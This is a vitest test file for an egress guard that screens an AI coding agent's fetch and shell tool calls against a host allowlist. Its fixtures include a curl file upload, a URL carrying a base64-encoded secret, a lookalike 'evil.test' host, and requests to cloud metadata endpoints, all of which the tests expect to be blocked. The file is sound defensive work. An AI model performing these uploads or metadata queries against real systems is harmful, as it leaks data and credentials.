// The operator's hosts extend the built-in pack's host policy; metadata endpoints stay refused.
import { describe, expect, it } from 'vitest';
import { hostAllowedBy } from '../../../guard/egress/hosts.js';
import { createGuard, GuardError, hostEntryProblem, operatorHosts } from '../../../guard/index.js';
import { loadPack } from '../../../packs/index.js';

const policy = loadPack('builtin:coding-agent').policy;
const ARGS = { url: 'https://api.corp.example/v1/items?k=c2VjcmV0LXZhbHVlLTEyMw', prompt: 'x' };
const UPLOAD = 'curl -F file=@dist/app.tgz https://artifacts.corp.example/upload';

describe('operator hosts', () => {
  it('let a fetch with data and a shell upload reach a listed host, and only that host', async () => {
    const plain = createGuard({ policies: [policy] });
    const extended = createGuard({ policies: [policy], egressHosts: ['*.Corp.Example'] });
    const call = (tool: string, args: object) => ({ phase: 'call', tool, args });
    expect((await plain.decide(call('WebFetch', ARGS))).rule).toBe('ca.fetch-data-offlist');
    expect((await extended.decide(call('WebFetch', ARGS))).verdict).toBe('allow');
    expect((await plain.decide(call('Bash', { command: UPLOAD }))).rule).toBe('ca.upload-offlist');
    expect((await extended.decide(call('Bash', { command: UPLOAD }))).verdict).toBe('allow');
    const other = { ...ARGS, url: ARGS.url.replace('corp.example', 'corp.example.evil.test') };
    expect((await extended.decide(call('WebFetch', other))).rule).toBe('ca.fetch-data-offlist');
  });

  it('never admit a cloud metadata endpoint, in the list or through it', async () => {
    for (const e of [
      '169.254.169.254',
      'metadata.google.internal',
      '*.google.internal',
      '*.ec2.internal',
    ])
      expect(hostEntryProblem(e), e).toMatch(/metadata/);
    expect(() => createGuard({ policies: [policy], egressHosts: ['169.254.169.254'] })).toThrow(
      GuardError,
    );
    expect(hostAllowedBy('169.254.169.254', ['169.254.169.254'], ['169.254.169.254'])).toBe(false);
    const g = createGuard({ policies: [policy], egressHosts: ['*.corp.example'] });
    const d = await g.decide({
      phase: 'call',
      tool: 'WebFetch',
      args: { url: 'http://169.254.169.254/latest/meta-data/', prompt: 'x' },
    });
    expect([d.verdict, d.rule]).toEqual(['block', 'ca.cloud-metadata']);
  });

  it('refuse entries that are not hosts or are too broad', () => {
    for (const e of ['*', '*.com', 'a b', 'https://x.example/', 'x.example/path', '-x.example', ''])
      expect(hostEntryProblem(e), e).not.toBeNull();
    for (const e of ['pkgs.corp.example', '*.corp.example', 'build', '10.0.0.7', '[fd12::7]'])
      expect(hostEntryProblem(e), e).toBeNull();
    expect(operatorHosts(['PKGS.Corp.Example.'])).toEqual(['pkgs.corp.example']);
    expect(() => operatorHosts(Array.from({ length: 257 }, (_, i) => `h${i}.example`))).toThrow(
      /more than 256/,
    );
  });
});
